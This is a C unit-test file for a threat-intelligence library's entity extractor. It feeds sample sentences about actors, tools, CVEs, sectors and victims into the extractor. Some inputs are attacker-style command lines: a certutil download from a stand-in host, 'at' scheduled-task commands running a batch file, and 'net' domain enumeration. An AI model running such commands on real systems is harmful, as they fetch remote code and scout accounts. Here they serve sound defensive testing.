/*
 * Unit tests of the entity stage (src/lib/entity) on sentences written for
 * them: ordinary-word aliases reported only with capitals and support,
 * OS utilities only when shown run, each kind of new-name rule, tracking
 * ids, KEV fields of CVE ids, sectors, countries and regions with their
 * role, victims, mention spans, and the embedded vocabularies.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>

#include "ctix/entity.h"
#include "ctix/kb.h"
#include "entity/entity_internal.h"

/* The entities of `text` (Markdown); the caller frees both. */
static ctix_entity_list *run(const char *text, ctix_document **doc)
{
  ctix_doc_options dopts;
  ctix_entity_list *list = NULL;
  ctix_error err;
  ctix_doc_options_init(&dopts);
  dopts.format = CTIX_FORMAT_MARKDOWN;
  ctix_error_clear(&err);
  assert_int_equal(ctix_document_parse(doc, text, strlen(text), &dopts, &err), 0);
  assert_int_equal(ctix_entity_extract(&list, *doc, NULL, NULL, &err), 0);
  assert_non_null(list);
  return list;
}

static const ctix_entity *find(const ctix_entity_list *l, ctix_entity_kind kind, const char *name)
{
  for (size_t i = 0; i < l->count; i++)
    if (l->items[i].kind == kind && strcmp(l->items[i].name, name) == 0)
      return &l->items[i];
  return NULL;
}

/* True when some entity of `kind` has `name` as name. */
static bool has(const char *text, ctix_entity_kind kind, const char *name)
{
  ctix_document *doc = NULL;
  ctix_entity_list *l = run(text, &doc);
  bool found = find(l, kind, name) != NULL;
  ctix_entity_list_free(l);
  ctix_document_free(doc);
  return found;
}

static void test_known_alias(void **state)
{
  (void)state;
  ctix_document *doc = NULL;
  const char *text = "Researchers linked the intrusions to HIDDEN COBRA, a North Korean actor.";
  ctix_entity_list *l = run(text, &doc);
  const ctix_entity *e = find(l, CTIX_ENTITY_GROUP, "Lazarus Group");
  assert_non_null(e);
  assert_true(e->known);
  assert_string_equal(e->id, "G0032");
  assert_non_null(e->stix_id);
  assert_string_equal(e->role, "named by the source");
  assert_int_equal(e->nmentions, 1);
  /* The mention spans the alias as written. */
  assert_int_equal(e->mentions[0].end - e->mentions[0].start, strlen("HIDDEN COBRA"));
  assert_memory_equal(doc->text + e->mentions[0].start, "HIDDEN COBRA", 12);
  assert_string_equal(e->mentions[0].alias, "HIDDEN COBRA");
  /* North Korea is a place. */
  assert_non_null(find(l, CTIX_ENTITY_LOCATION, "North Korea"));
  ctix_entity_list_free(l);
  ctix_document_free(doc);
}

static void test_ambiguous_word(void **state)
{
  (void)state;
  /* "Equation" (G0020) is an ordinary word. */
  assert_false(has("Equation solving is taught in school. The results were clear.",
                   CTIX_ENTITY_GROUP, "Equation"));
  assert_false(has("The Equation was simple and everyone solved it.", CTIX_ENTITY_GROUP,
                   "Equation"));
  assert_true(has("The Equation group used a new implant against telecom targets.",
                  CTIX_ENTITY_GROUP, "Equation"));
  /* Lower case never counts, context or not. */
  assert_false(has("The equation group of the paper was solved by the actor.", CTIX_ENTITY_GROUP,
                   "Equation"));
  /* Support from another ATT&CK entity in the same sentence. */
  assert_true(has("Both Equation and Mimikatz appear in the same table.", CTIX_ENTITY_GROUP,
                  "Equation"));
  /* A short form of "Lazarus Group" needs support too. */
  assert_false(has("Lazarus rose from the dead in the story.", CTIX_ENTITY_GROUP,
                   "Lazarus Group"));
  assert_true(has("The Lazarus hackers breached six companies.", CTIX_ENTITY_GROUP,
                  "Lazarus Group"));
}

static void test_utility(void **state)
{
  (void)state;
  /* "Net" (S0039) is reported only when shown run. */
  assert_false(has("We met at the office and checked the net income.", CTIX_ENTITY_TOOL, "Net"));
  assert_true(has("The attackers ran net.exe to list the domain users.", CTIX_ENTITY_TOOL, "Net"));
  assert_true(has("They then ran net /domain user to list accounts.", CTIX_ENTITY_TOOL, "Net"));
  assert_false(has("Meet me at noon.", CTIX_ENTITY_TOOL, "at"));
  assert_false(has("The retry is scheduled at -1 seconds.", CTIX_ENTITY_TOOL, "at"));
  /* A path after the word is no switch; a switch is. */
  assert_false(has("The implant copies the binary located at /usr/bin/lina_cs to memory.",
                   CTIX_ENTITY_TOOL, "at"));
  assert_true(has("The operators ran at /every:M 10:00 evil.bat on the host.", CTIX_ENTITY_TOOL, "at"));
  /* In a code block only where a command starts, not in log output. */
  assert_false(has("The log:\n\n```\n2025-04-03 15:44:50 - INFO - started function at 0x140025098\n```\n",
                   CTIX_ENTITY_TOOL, "at"));
  assert_true(has("The script:\n\n```\n$ at 10:00 /tmp/run.sh\n```\n", CTIX_ENTITY_TOOL, "at"));
  assert_true(has("The script:\n\n```\ncmd /c at 10:00 run.bat\n```\n", CTIX_ENTITY_TOOL, "at"));
  /* ... or followed by a switch inside a quoted command line. */
  assert_true(has("The loader:\n\n```\npowershell -c \"certutil -urlcache -f http://a.example/x x\"\n```\n",
                  CTIX_ENTITY_TOOL, "certutil"));
}

/* Tools ATT&CK does not list come from data/entity/tools.tsv: known, with
 * no ATT&CK id; an ordinary word among them needs a capital and support. */
static void test_listed_tools(void **state)
{
  ctix_document *doc = NULL;
  (void)state;
  ctix_entity_list *l = run("The affiliates installed AnyDesk and used WinSCP to move files.", &doc);
  const ctix_entity *e = find(l, CTIX_ENTITY_TOOL, "AnyDesk");
  assert_non_null(e);
  assert_true(e->known);
  assert_null(e->id);
  assert_int_equal(e->ref, CTIX_KB_NONE);
  assert_non_null(find(l, CTIX_ENTITY_TOOL, "WinSCP"));
  ctix_entity_list_free(l);
  ctix_document_free(doc);
  /* Other names map to the table's name. */
  assert_true(has("They connected with ConnectWise Control.", CTIX_ENTITY_TOOL, "ScreenConnect"));
  /* An ordinary word: a capital and a context word. */
  assert_true(has("The operators used Slack to stage the stolen files.", CTIX_ENTITY_TOOL, "Slack"));
  assert_false(has("The operators left some slack in the schedule.", CTIX_ENTITY_TOOL, "Slack"));
  assert_false(has("Analysts found Slack in the schedule.", CTIX_ENTITY_TOOL, "Slack"));
  /* A name of ordinary words needs its capitals. */
  assert_false(has("The malware prints a simple help message.", CTIX_ENTITY_TOOL, "SimpleHelp"));
  assert_true(has("The actors installed Simple Help on the server.", CTIX_ENTITY_TOOL, "SimpleHelp"));
  assert_true(has("They used Rockwell's Studio 5000 Logix Designer to load logic.", CTIX_ENTITY_TOOL,
                  "Studio 5000"));
  /* Introduced by a rule: the evidence names the table, not ATT&CK. */
  l = run("The actors deployed the AnyDesk tool for access.", &doc);
  e = find(l, CTIX_ENTITY_TOOL, "AnyDesk");
  assert_non_null(e);
  assert_null(strstr(e->evidence, "ATT&CK"));
  ctix_entity_list_free(l);
  ctix_document_free(doc);
  /* A name ATT&CK has stays ATT&CK's. */
  l = run("The actors used Rclone to copy the data.", &doc);
  e = find(l, CTIX_ENTITY_TOOL, "Rclone");
  assert_non_null(e);
  assert_non_null(e->id);
  ctix_entity_list_free(l);
  ctix_document_free(doc);
}

/* A knowledge base other than the default one gets its own names, built
 * for the call, and finds what the default one finds. */
static void test_other_kb(void **state)
{
  ctix_kb *kb = NULL;
  ctix_document *doc = NULL;
  ctix_doc_options dopts;
  ctix_entity_options eopts;
  ctix_entity_list *l = NULL;
  ctix_error err;
  (void)state;
  ctix_error_clear(&err);
  assert_int_equal(ctix_kb_open_embedded(&kb, &err), 0);
  ctix_doc_options_init(&dopts);
  dopts.format = CTIX_FORMAT_MARKDOWN;
  const char *text = "The Lazarus Group deployed ThreatNeedle and used AnyDesk.";
  assert_int_equal(ctix_document_parse(&doc, text, strlen(text), &dopts, &err), 0);
  ctix_entity_options_init(&eopts);
  eopts.kb = kb;
  for (int round = 0; round < 2; round++) {
    assert_int_equal(ctix_entity_extract(&l, doc, NULL, &eopts, &err), 0);
    assert_non_null(find(l, CTIX_ENTITY_GROUP, "Lazarus Group"));
    assert_non_null(find(l, CTIX_ENTITY_MALWARE, "ThreatNeedle"));
    assert_non_null(find(l, CTIX_ENTITY_TOOL, "AnyDesk"));
    ctix_entity_list_free(l);
    l = NULL;
  }
  ctix_document_free(doc);
  ctix_kb_free(kb);
}

/* New tool names come from prose, not from titles, compounds or the names
 * of ATT&CK's matrices. */
static void test_new_tool_names(void **state)
{
  (void)state;
  assert_true(has("The actors deployed the Gorgon tool on the servers.", CTIX_ENTITY_TOOL, "Gorgon"));
  assert_false(has("See the Leveraged Tools section for a full list.", CTIX_ENTITY_TOOL, "Leveraged"));
  assert_false(has("Use the Eviction Strategies Tool to plan the eviction.", CTIX_ENTITY_TOOL,
                   "Eviction Strategies"));
  assert_false(has("This advisory uses the MITRE ATT&CK Matrix for Enterprise framework, version 18.",
                   CTIX_ENTITY_TOOL, "Enterprise"));
  /* ... which may still be part of a name. */
  assert_true(has("Midnight Blizzard breached Hewlett Packard Enterprise in 2023.", CTIX_ENTITY_VICTIM,
                  "Hewlett Packard Enterprise"));
  assert_false(has("This advisory uses the MITRE ATT&CK Matrix for Enterprise12 framework, version 19.",
                   CTIX_ENTITY_TOOL, "Enterprise12"));
  assert_false(has("| Mimikatz | Post-exploitation tool that dumps credentials. |", CTIX_ENTITY_TOOL,
                   "Post-exploitation"));
  assert_true(has("They staged data with tools including Gorgon and Zephyrine.", CTIX_ENTITY_TOOL,
                  "Zephyrine"));
}

static void test_new_names(void **state)
{
  (void)state;
  ctix_document *doc = NULL;
  ctix_entity_list *l =
      run("The Zorvex ransomware encrypted the servers of the firm.\n\n"
          "The Quillmoor ransomware gang claimed the attack on its leak site.\n\n"
          "Microsoft tracks the activity as Storm-9917 and links it to UNC8812.\n\n"
          "The loader, dubbed GlintHook, fetches a second stage.\n\n"
          "Analysts attribute it to a threat actor tracked as Velvet Anchor.\n\n"
          "The Brasswing group (aka Copper Heron) targeted ministries.\n\n"
          "The intruders deployed the ‘NightWeave’ backdoor and the ‘SpoolTap’ implant.\n",
          &doc);
  const ctix_entity *e = find(l, CTIX_ENTITY_MALWARE, "Zorvex");
  assert_non_null(e);
  assert_false(e->known);
  assert_true(e->confidence > 0.0f && e->confidence < 0.9f);
  assert_non_null(e->evidence);
  assert_non_null(find(l, CTIX_ENTITY_GROUP, "Quillmoor"));
  assert_non_null(find(l, CTIX_ENTITY_MALWARE, "Quillmoor"));
  assert_non_null(find(l, CTIX_ENTITY_GROUP, "Storm-9917"));
  assert_non_null(find(l, CTIX_ENTITY_GROUP, "UNC8812"));
  assert_non_null(find(l, CTIX_ENTITY_MALWARE, "GlintHook"));
  assert_non_null(find(l, CTIX_ENTITY_GROUP, "Velvet Anchor"));
  assert_non_null(find(l, CTIX_ENTITY_GROUP, "Brasswing"));
  assert_non_null(find(l, CTIX_ENTITY_GROUP, "Copper Heron"));
  assert_non_null(find(l, CTIX_ENTITY_MALWARE, "NightWeave"));
  assert_non_null(find(l, CTIX_ENTITY_MALWARE, "SpoolTap"));
  /* Sentence openers, platforms and adjectives are not names. */
  assert_null(find(l, CTIX_ENTITY_MALWARE, "The"));
  ctix_entity_list_free(l);
  ctix_document_free(doc);
  assert_false(has("Modern ransomware encrypts files quickly.", CTIX_ENTITY_MALWARE, "Modern"));
  assert_false(has("New Linux malware was found.", CTIX_ENTITY_MALWARE, "Linux"));
  assert_false(has("China-linked hackers breached telcos.", CTIX_ENTITY_GROUP, "China-linked"));
  /* A list introduced as malware families. */
  assert_true(has("Talos described these malware families:\n\n"
                  "* Frostpike – a dropper that starts the chain.\n"
                  "* Emberlane – the main implant.\n",
                  CTIX_ENTITY_MALWARE, "Emberlane"));
}

/* "APT" and a number is a tracking id, not a stop word with a footnote. */
static void test_apt_designator(void **state)
{
  (void)state;
  assert_true(has("The threat actor tracked as APT45 used a backdoor.", CTIX_ENTITY_GROUP, "APT45"));
  assert_true(has("APT77 sent the lures.", CTIX_ENTITY_GROUP, "APT77"));
}

static void test_new_names_off(void **state)
{
  (void)state;
  ctix_document *doc = NULL;
  ctix_doc_options dopts;
  ctix_entity_options eo;
  ctix_entity_list *l = NULL;
  const char *text = "The Zorvex ransomware hit Akira victims. Storm-9917 did it.";
  ctix_doc_options_init(&dopts);
  dopts.format = CTIX_FORMAT_TEXT;
  assert_int_equal(ctix_document_parse(&doc, text, strlen(text), &dopts, NULL), 0);
  ctix_entity_options_init(&eo);
  assert_true(eo.new_names);
  eo.new_names = false;
  assert_int_equal(ctix_entity_extract(&l, doc, NULL, &eo, NULL), 0);
  for (size_t i = 0; i < l->count; i++)
    if (l->items[i].kind <= CTIX_ENTITY_CAMPAIGN)
      assert_true(l->items[i].known);
  assert_null(find(l, CTIX_ENTITY_MALWARE, "Zorvex"));
  ctix_entity_list_free(l);
  ctix_document_free(doc);
}

static void test_kev(void **state)
{
  (void)state;
  const ctix_kb *kb;
  ctix_kb_kev kev;
  ctix_document *doc = NULL;
  assert_int_equal(ctix_kb_default(&kb, NULL), 0);
  assert_int_equal(ctix_kb_find_cve(kb, "CVE-2021-44228", 14, &kev), 0);
  ctix_entity_list *l =
      run("Attackers exploited cve-2021-44228 and CVE-1999-99999 on exposed servers.", &doc);
  const ctix_entity *e = find(l, CTIX_ENTITY_VULNERABILITY, "CVE-2021-44228");
  assert_non_null(e);
  assert_true(e->kev);
  assert_string_equal(e->id, "CVE-2021-44228");
  assert_string_equal(e->kev_date_added, kev.date_added);
  assert_string_equal(e->kev_due_date, kev.due_date);
  assert_int_equal(e->kev_ransomware, kev.known_ransomware);
  assert_string_equal(e->vendor, kev.vendor);
  assert_string_equal(e->product, kev.product);
  assert_int_equal(strlen(e->kev_date_added), 10);
  const ctix_entity *u = find(l, CTIX_ENTITY_VULNERABILITY, "CVE-1999-99999");
  assert_non_null(u);
  assert_false(u->kev);
  assert_null(u->kev_date_added);
  assert_null(u->vendor);
  ctix_entity_list_free(l);
  ctix_document_free(doc);
}

static void test_places_sectors(void **state)
{
  (void)state;
  /* A two-letter word that opens a trigger ("IT sector"). */
  assert_true(has("The group targeted IT services providers in Germany.", CTIX_ENTITY_SECTOR, "technology"));
  ctix_document *doc = NULL;
  ctix_entity_list *l = run("The group targeted hospitals in Poland.\n\n"
                            "Banks across Europe published a report.\n\n"
                            "The US and UK issued the advisory, as did the rest of us.\n",
                            &doc);
  const ctix_entity *pl = find(l, CTIX_ENTITY_LOCATION, "Poland");
  assert_non_null(pl);
  assert_string_equal(pl->id, "PL");
  assert_string_equal(pl->role, "targeted");
  const ctix_entity *hc = find(l, CTIX_ENTITY_SECTOR, "healthcare");
  assert_non_null(hc);
  assert_string_equal(hc->role, "targeted");
  const ctix_entity *fin = find(l, CTIX_ENTITY_SECTOR, "finance");
  assert_non_null(fin);
  assert_string_equal(fin->role, "mentioned");
  const ctix_entity *eu = find(l, CTIX_ENTITY_LOCATION, "Europe");
  assert_non_null(eu);
  assert_string_equal(eu->id, "europe");
  const ctix_entity *us = find(l, CTIX_ENTITY_LOCATION, "United States");
  assert_non_null(us);
  /* "US" counts, "us" does not. */
  assert_int_equal(us->nmentions, 1);
  assert_non_null(find(l, CTIX_ENTITY_LOCATION, "United Kingdom"));
  /* Kinds come in enum order. */
  for (size_t i = 1; i < l->count; i++)
    assert_true(l->items[i - 1].kind <= l->items[i].kind);
  ctix_entity_list_free(l);
  ctix_document_free(doc);
}

static void test_victims(void **state)
{
  (void)state;
  assert_true(has("Hitachi Vantara confirmed a ransomware attack last week.", CTIX_ENTITY_VICTIM,
                  "Hitachi Vantara"));
  assert_true(has("The attack on Brightwater Utilities disrupted billing.", CTIX_ENTITY_VICTIM,
                  "Brightwater Utilities"));
  /* A group is not its own victim, nor is a country. */
  assert_false(has("The attack on Poland was claimed.", CTIX_ENTITY_VICTIM, "Poland"));
  /* Kinds of systems are targets, not organisations. */
  assert_false(has("The actors compromised PLCs to interfere with operations.", CTIX_ENTITY_VICTIM, "PLCs"));
  assert_false(has("Russian actors are targeting Networking Devices worldwide.", CTIX_ENTITY_VICTIM,
                   "Networking Devices"));
  /* Titles are not read: "Actors Targeting Water and Wastewater Sector". */
  assert_false(has("See the alert Malicious Cyber Actors Targeting Acme Utilities from last year.",
                   CTIX_ENTITY_VICTIM, "Acme Utilities"));
  /* A victim keeps its place, unless only generic words follow it. */
  assert_true(has("The heist targeted Bangladesh Bank and its SWIFT terminals.", CTIX_ENTITY_VICTIM,
                  "Bangladesh Bank"));
  assert_true(has("The attack on British Airways exposed card data.", CTIX_ENTITY_VICTIM,
                  "British Airways"));
  assert_false(has("The actors breached Israeli Companies last year.", CTIX_ENTITY_VICTIM,
                   "Israeli Companies"));
  assert_false(has("The actors breached Israeli Companies last year.", CTIX_ENTITY_VICTIM, "Companies"));
  /* Names that end in a word for systems are still organisations. */
  assert_true(has("The gang claimed an attack on Lehigh Valley Health Network in February.",
                  CTIX_ENTITY_VICTIM, "Lehigh Valley Health Network"));
  assert_true(has("The breach at Thames Water disrupted billing.", CTIX_ENTITY_VICTIM, "Thames Water"));
  /* ... and so are names that end in a generic word for organisations. */
  assert_true(has("The ransomware gang breached Colonial Pipeline Company in May.", CTIX_ENTITY_VICTIM,
                  "Colonial Pipeline Company"));
  /* An apposition names a victim; "the company said" starts a new clause. */
  assert_true(has("Acme Dynamics, the Japanese chip maker, was hit.", CTIX_ENTITY_VICTIM, "Acme Dynamics"));
  assert_true(has("Acme Dynamics, a chip maker, was hit.", CTIX_ENTITY_VICTIM, "Acme Dynamics"));
  assert_false(has("In a statement for NewsDesk, the company confirmed the ransomware attack.",
                   CTIX_ENTITY_VICTIM, "NewsDesk"));
}

static void test_vocabulary(void **state)
{
  (void)state;
  ctix_error err;
  ctix_error_clear(&err);
  const ctix__lexicon *lx = ctix__entity_lexicon(&err);
  assert_non_null(lx);
  assert_true(lx->nrules > 10);
  assert_true(lx->nplaces > 200);
  assert_true(lx->nsectors >= 15);
  assert_true(lx->ndesignators > 5);
  assert_true(lx->ambiguous.count > 100);
  assert_string_equal(ctix_entity_kind_name(CTIX_ENTITY_GROUP), "group");
  assert_string_equal(ctix_entity_kind_name(CTIX_ENTITY_LOCATION), "location");
  assert_string_equal(ctix_entity_kind_name(CTIX_ENTITY_KIND_COUNT), "unknown");
  ctix_entity_list_free(NULL);
  ctix_entity_list *l = NULL;
  assert_int_equal(ctix_entity_extract(&l, NULL, NULL, NULL, &err), CTIX_EINVAL);
  assert_null(l);
}

int main(void)
{
  const struct CMUnitTest tests[] = {
      cmocka_unit_test(test_known_alias),    cmocka_unit_test(test_ambiguous_word),
      cmocka_unit_test(test_utility),        cmocka_unit_test(test_new_tool_names),
      cmocka_unit_test(test_listed_tools),   cmocka_unit_test(test_other_kb),
      cmocka_unit_test(test_new_names),      cmocka_unit_test(test_apt_designator),
      cmocka_unit_test(test_new_names_off),  cmocka_unit_test(test_kev),
      cmocka_unit_test(test_places_sectors), cmocka_unit_test(test_victims),
      cmocka_unit_test(test_vocabulary),
  };
  return cmocka_run_group_tests(tests, NULL, NULL);
}
